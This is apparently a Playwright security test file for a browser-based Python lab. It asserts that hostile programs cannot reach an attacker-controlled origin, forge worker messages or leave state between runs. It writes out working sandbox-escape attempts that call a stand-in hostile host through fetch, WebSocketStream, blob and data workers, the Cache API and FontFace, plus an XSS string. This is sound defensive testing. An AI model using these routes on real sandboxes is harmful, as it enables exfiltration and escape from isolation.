// Hostile programs and links, as an attacker would write them (issue #28): each tries one route out of the
// Lab's Python to another origin, where a server records every request that reaches it (static-host.js
// --record, started by playwright.config.js). The promise under test: nothing reaches it, whatever the
// program gets hold of, and the run ends normally or with a coded error. The browser refuses these requests
// because every worker's script is served with a content security policy of its own (public/_headers);
// the sandbox's JavaScript (www/python/worker-sandbox.js) is a second wall, not the first.
import { readdirSync } from 'node:fs';
import { join } from 'node:path';
import { hostileOrigin } from '../../playwright.config.js';
import { allowConsoleError, expect, open, runPython, runsDone, test } from './fixtures.js';

/** The requests the attacker's server has recorded so far. */
async function recorded() {
  const response = await fetch(`${hostileOrigin}/__recorded`);
  return /** @type {Promise<{ method: string, url: string }[]>} */ (response.json());
}

/** How long after a run a late request (a nested worker's, a timer's) is still waited for. */
const LATE_MS = 1_500;

/**
 * Runs `attack` and asserts that no request reached the attacker's server during it (nor within `LATE_MS`
 * after it); resolves to what `attack` resolved to.
 * @template T
 * @param {() => Promise<T>} attack
 */
async function nothingReaches(attack) {
  const before = (await recorded()).length;
  const result = await attack();
  await new Promise((resolve) => setTimeout(resolve, LATE_MS));
  expect((await recorded()).slice(before), 'requests that reached the other origin').toEqual([]);
  return result;
}

/** Opens a page, where the browser's messages about refused requests are expected. */
async function openQuietly(page) {
  allowConsoleError(page, /Content Security Policy|Refused to|has no network|Failed to fetch|net::ERR/);
  await open(page);
}

/** Asserts a `runPython` result is a trace (the program ran to its end) or a coded error; its text. */
function endedWell(result) {
  if (result.error) {
    expect(result.error.code, `a coded error, not ${result.error.message}`).toEqual(expect.any(String));
    return result.error.message;
  }
  expect(result.spans, 'a trace').toEqual(expect.any(Array));
  return JSON.stringify(result.output ?? result);
}

/**
 * The URL of the pool's process script in the served build (hashed: found by name in the build's files), as
 * an attacker reads it from the deployed site.
 */
function poolWorkerPath() {
  const root = process.env.JUGGLE_OUT_DIR ?? 'dist';
  const files = readdirSync(join(root, 'assets'), { recursive: true, encoding: 'utf8' });
  const found = files.find((file) => /(^|\/)pool-worker-[\w-]+\.js$/.test(file));
  if (!found) throw new Error(`no pool-worker script in ${root}/assets`);
  return `/assets/${found}`;
}

/** The program's head: the attacker's origin, and `attempt`, which prints whether a request went through. */
const HEAD = (origin) => `import asyncio, js
from pyodide.ffi import to_js

R = ${JSON.stringify(origin)}

def obj(**fields):
    return to_js(fields, dict_converter=js.Object.fromEntries)

async def attempt(what, make, answered=True):
    try:
        await make()
        print(what, "went through" if answered else "started (no answer to wait for)")
    except BaseException as error:
        print(what, "refused:", type(error).__name__)
`;

/** Each route out, as a Python program's body (after `HEAD`). */
const ROUTES = {
  'the original fetch from WorkerGlobalScope.prototype': `
async def go():
    await js.WorkerGlobalScope.prototype.fetch.call(js.self, R + "/prototype-fetch")
asyncio.run(attempt("fetch", go))
`,
  WebSocketStream: `
async def go():
    stream = js.WebSocketStream.new(R.replace("http:", "ws:") + "/websocketstream")
    await stream.opened
asyncio.run(attempt("WebSocketStream", go))
`,
  'a string setTimeout importing a module': `
async def go():
    js.setTimeout("import(" + repr(R + "/timer-import.js") + ")", 0)
    await asyncio.sleep(1)
asyncio.run(attempt("string timer", go, answered=False))
`,
  'a nested Worker from a blob: URL': `
async def go():
    code = "fetch(" + repr(R + "/blob-worker") + ")"
    blob = js.Blob.new(to_js([code]), obj(type="text/javascript"))
    js.Worker.new(js.URL.createObjectURL(blob))
    await asyncio.sleep(1)
asyncio.run(attempt("blob worker", go, answered=False))
`,
  'a nested Worker from a data: URL': `
async def go():
    code = "fetch(" + repr(R + "/data-worker") + ")"
    js.Worker.new("data:text/javascript," + js.encodeURIComponent(code))
    await asyncio.sleep(1)
asyncio.run(attempt("data worker", go, answered=False))
`,
  'a nested process worker told to load its interpreter from another origin': `
async def go():
    worker = js.Worker.new(js.URL.new(POOL_WORKER, js.location.href).href, obj(type="module"))
    worker.postMessage(obj(type="prepare", indexURL=R + "/pyodide/", cores=1))
    await asyncio.sleep(2)
asyncio.run(attempt("nested process", go, answered=False))
`,
  "the Cache API's add": `
async def go():
    cache = await js.caches.open("hostile")
    await cache.add(R + "/cache-add")
asyncio.run(attempt("cache.add", go))
`,
  'FontFace(...).load()': `
async def go():
    await js.FontFace.new("hostile", "url(" + R + "/font.woff2)").load()
asyncio.run(attempt("FontFace", go))
`,
  // Every route above again, from inside a process of the pool (a Worker and an interpreter of its own).
  'the same, from inside a pool process': `
import time
from concurrent.futures import ProcessPoolExecutor

def phone_home(n):
    tried = []
    def tried_to(what, start):
        try:
            start()
            tried.append(what + " started")
        except BaseException as error:
            tried.append(what + " refused: " + type(error).__name__)
    tried_to("fetch", lambda: js.WorkerGlobalScope.prototype.fetch.call(js.self, R + "/process-fetch"))
    tried_to("WebSocketStream", lambda: js.WebSocketStream.new(R.replace("http:", "ws:") + "/process-ws"))
    tried_to("string timer", lambda: js.setTimeout("import(" + repr(R + "/process-timer.js") + ")", 0))
    blob = js.Blob.new(to_js(["fetch(" + repr(R + "/process-blob") + ")"]), obj(type="text/javascript"))
    tried_to("blob worker", lambda: js.Worker.new(js.URL.createObjectURL(blob)))
    data = "data:text/javascript," + js.encodeURIComponent("fetch(" + repr(R + "/process-data") + ")")
    tried_to("data worker", lambda: js.Worker.new(data))
    tried_to("cache.add", lambda: js.caches.open("hostile").then(lambda cache: cache.add(R + "/process-cache")))
    tried_to("FontFace", lambda: js.FontFace.new("hostile", "url(" + R + "/process-font.woff2)").load())
    return tried

if __name__ == "__main__":
    with ProcessPoolExecutor(max_workers=1) as pool:
        for line in pool.submit(phone_home, 1).result():
            print(line)
        time.sleep(1.5)
`,
};

test('the attacker’s server records what the browser sends it (the control: a page opened there)', async ({
  page,
}) => {
  const before = (await recorded()).length;
  await page.goto(`${hostileOrigin}/control`);
  const after = (await recorded()).slice(before);
  expect(after.map((request) => request.url)).toContain('/control');
});

for (const [route, body] of Object.entries(ROUTES)) {
  test(`hostile program, ${route}: nothing reaches another origin, the run ends coded or normally`, async ({
    page,
  }) => {
    test.setTimeout(90_000);
    await openQuietly(page);
    const program = `${HEAD(hostileOrigin)}POOL_WORKER = ${JSON.stringify(poolWorkerPath())}\n${body}`;
    const result = await nothingReaches(() => runPython(page, program));
    const said = endedWell(result);
    // The browser's wall held (above); the sandbox's own refusal (worker-sandbox.js) comes first and says so.
    expect(said).toContain('refused');
    expect(said).not.toMatch(/went through|started/);
    // The next run works.
    const next = await runPython(page, 'print("still here")\n');
    expect(next.error).toBeUndefined();
  });
}

test('a hostile link: a #code= program that phones home is shown, runs on Run, and reaches nothing', async ({
  page,
}) => {
  test.setTimeout(90_000);
  const program = `${HEAD(hostileOrigin)}${ROUTES['the original fetch from WorkerGlobalScope.prototype']}`;
  allowConsoleError(page, /Content Security Policy|Refused to|Failed to fetch|net::ERR/);
  await page.addInitScript(() => localStorage.removeItem('juggle.lab.v1'));
  await open(page, `?lab=1&code=${encodeURIComponent(program)}`);
  await page.locator('#lab-run').waitFor();
  await expect(page.locator('#lab-from-link')).toBeVisible();
  await nothingReaches(async () => {
    await page.locator('#lab-run').click();
    await runsDone(page, 1);
  });
  await expect(page.locator('#lab-status')).toContainText(/ended after/);
  await expect(page.locator('ol.output li')).toHaveText([/fetch refused/]);
});

test('a program that asks for hundreds of processes gets a clear error; Processes over the cap wait their turn', async ({
  page,
}) => {
  test.setTimeout(120_000);
  await open(page);
  const cap = 2 * (await page.evaluate(() => navigator.hardwareConcurrency || 1));
  const pool = await runPython(
    page,
    'from concurrent.futures import ProcessPoolExecutor\nif __name__ == "__main__":\n    ProcessPoolExecutor(max_workers=200)\n',
  );
  expect(pool.error?.code).toBe('python-error');
  expect(pool.error?.message).toContain(`at most ${cap} processes at once`);
  // One Process more than the cap, each started by multiprocessing.Process: the one too many starts when
  // one of the others has ended (Process.start() waits, docs/decisions/2026-12-05-multiprocessing.md), so
  // every one runs and no more than the cap are ever alive at once.
  const many = await runPython(
    page,
    `import multiprocessing, time
def nap():
    time.sleep(0.2)
if __name__ == "__main__":
    most = 0
    started = []
    for _ in range(${cap + 1}):
        p = multiprocessing.Process(target=nap)
        p.start()
        started.append(p)
        most = max(most, len(multiprocessing.active_children()))
    for p in started:
        p.join()
    print("ran", len(started), "at most", most, "at once")
`,
  );
  expect(many.error).toBeUndefined();
  expect(many.output.map((line) => line.text)).toEqual([`ran ${cap + 1} at most ${cap} at once`]);
  // The process lanes drawn say the same: at no moment more than the cap.
  const lanes = new Map();
  for (const span of many.spans.filter((s) => s.lane.startsWith('process-'))) {
    const [start, end] = lanes.get(span.lane) ?? [Infinity, -Infinity];
    lanes.set(span.lane, [Math.min(start, span.start_ms), Math.max(end, span.end_ms)]);
  }
  expect(lanes.size).toBe(cap + 1);
  for (const [start] of lanes.values()) {
    const alive = [...lanes.values()].filter(([s, e]) => s <= start && start < e).length;
    expect(alive).toBeLessThanOrEqual(cap);
  }
});

/** Programs that kill their own interpreter, each a way a run's worker dies or falls silent. */
const KILLERS = {
  'os._exit(3)': 'print("before")\nimport os\nos._exit(3)\n',
  'js.self.close()': 'print("before")\nimport js, time\njs.self.close()\ntime.sleep(0.1)\nprint("after")\n',
  'js.self.close() then awaits': `import asyncio, js
print("before")
js.self.close()
async def main():
    await asyncio.sleep(0.2)
    print("after")
asyncio.run(main())
`,
};

test("a program's forged messages about its worker's life are not heard: its run ends as it ran", async ({
  page,
}) => {
  test.setTimeout(120_000);
  await open(page);
  // The crash message a dying worker sends (with a record no trace may hold), the message that says it is
  // alive (with a lock nobody holds: heard, it would say the worker ended), and the message that hands the
  // page the worker's private line: none comes on that line, so none is heard.
  const trace = await runPython(
    page,
    `import js, time
from pyodide.ffi import to_js
def post(message, transfer=None):
    message = to_js(message, dict_converter=js.Object.fromEntries)
    if transfer is None:
        js.postMessage(message)
    else:
        js.postMessage(message, to_js([transfer]))
record = {"spans": "x", "output": [{"t_ms": float("nan"), "text": "<img src=x onerror=alert(1)>"}]}
post({"type": "juggle-crashed", "reason": "<b>forged</b>", "record": record})
post({"type": "juggle-alive", "lock": "nobody-holds-this"})
channel = js.MessageChannel.new()
post({"type": "juggle-life", "port": channel.port2}, channel.port2)
channel.port1.postMessage(to_js({"type": "juggle-crashed", "reason": "forged"}, dict_converter=js.Object.fromEntries))
time.sleep(0.5)
print("ran to its end")
`,
  );
  expect(trace.error).toBeUndefined();
  expect(trace.output.map((line) => line.text)).toEqual(['ran to its end']);
});

for (const [what, code] of Object.entries(KILLERS)) {
  test(`a program that ends its own interpreter (${what}) is a coded python-crashed at once; the next run works`, async ({
    page,
  }) => {
    test.setTimeout(120_000);
    await open(page);
    expect((await runPython(page, 'pass\n')).error).toBeUndefined();
    const { result, ms } = await page.evaluate(async (program) => {
      const started = performance.now();
      const result = await window.juggle.runPython(program).then(
        () => ({ code: 'none' }),
        (error) => ({ code: error.code, message: error.message }),
      );
      return { result, ms: performance.now() - started };
    }, code);
    expect(result.code).toBe('python-crashed');
    // Seen when it happened, not at the run's 60 s cap (which `too-long` would have been).
    expect(ms).toBeLessThan(60_000 / 10);
    const next = await runPython(page, 'print("still here")\n');
    expect(next.output?.map((line) => line.text)).toEqual(['still here']);
  });
}

// What a program may leave behind, each a way it could reach the next run in a reused interpreter.
const LEAVER = `import asyncio, builtins, json, math, sys, threading, time
import js
from pyodide.ffi import create_proxy

builtins.print = lambda *args, **kwargs: None  # silence the next run
builtins.LEFT_BEHIND = "here"
math.pi = 3
sys.setrecursionlimit(60)
sys.modules["json"] = None  # break an import of the next run
sys.monitoring.use_tool_id(5, "squatter")  # a tool id the next run cannot have
# A JavaScript timer and a message listener, each writing into the next run if it lives on (where the
# worker's sandbox lets the program make them at all).
for leave in (
    lambda: js.setInterval(create_proxy(lambda: sys.stdout.write("tick from the last run\\n")), 20),
    lambda: js.addEventListener("message", create_proxy(lambda event: sys.stdout.write("forged\\n"))),
):
    try:
        leave()
    except Exception as refused:
        sys.stdout.write(f"refused: {refused}\\n")
# A daemon thread and an asyncio task still going when the run ends.
def spin():
    while True:
        time.sleep(0.01)
        sys.stdout.write("thread from the last run\\n")
threading.Thread(target=spin, daemon=True).start()
sys.stdout.write("left\\n")
`;

const CHECKER = `import builtins, math, sys, time
time.sleep(0.3)  # long enough for a timer or a thread of the last run to print, if one lived on
import json
print("print is print:", builtins.print.__name__ == "print" and builtins.print.__module__ == "builtins")
print("left behind:", hasattr(builtins, "LEFT_BEHIND"))
print("pi:", math.pi)
print("recursion limit:", sys.getrecursionlimit())
print("tool 5:", sys.monitoring.get_tool(5))
print("json:", json.dumps([1]))
`;

test('nothing a program leaves behind reaches the next run: each run has a fresh interpreter', async ({
  page,
}) => {
  test.setTimeout(120_000);
  await open(page);
  const left = await runPython(page, LEAVER);
  expect(left.error ?? null).toBeNull();
  expect(left.output.map((line) => line.text)).toContain('left');
  const next = await runPython(page, CHECKER);
  expect(next.error ?? null).toBeNull();
  expect(next.output.map((line) => line.text)).toEqual([
    'print is print: True',
    'left behind: False',
    `pi: ${Math.PI}`,
    'recursion limit: 1000',
    'tool 5: None',
    'json: [1]',
  ]);
  // A later run waits far less for its interpreter than the first (which loaded Python the long way): it
  // was started, from the page's memory snapshot, as the last run ended.
  const third = await runPython(page, 'print("third")\n');
  expect(third.output.map((line) => line.text)).toEqual(['third']);
  expect(third.env.python_load_ms).toBeLessThan(left.env.python_load_ms / 2);
});

test('a program that frees the tracer’s sys.monitoring tool ends normally, its trace marked cut short', async ({
  page,
}) => {
  await open(page);
  const trace = await runPython(
    page,
    `import sys
for tool in range(6):
    if sys.monitoring.get_tool(tool):
        sys.monitoring.free_tool_id(tool)
print("after")
`,
  );
  expect(trace.error ?? null).toBeNull();
  expect(trace.output.map((line) => line.text)).toEqual(['after']);
  expect(trace.result.truncated).toMatch(
    /freed the tracer's sys.monitoring tool \(id \d\); recording stopped there/,
  );
});
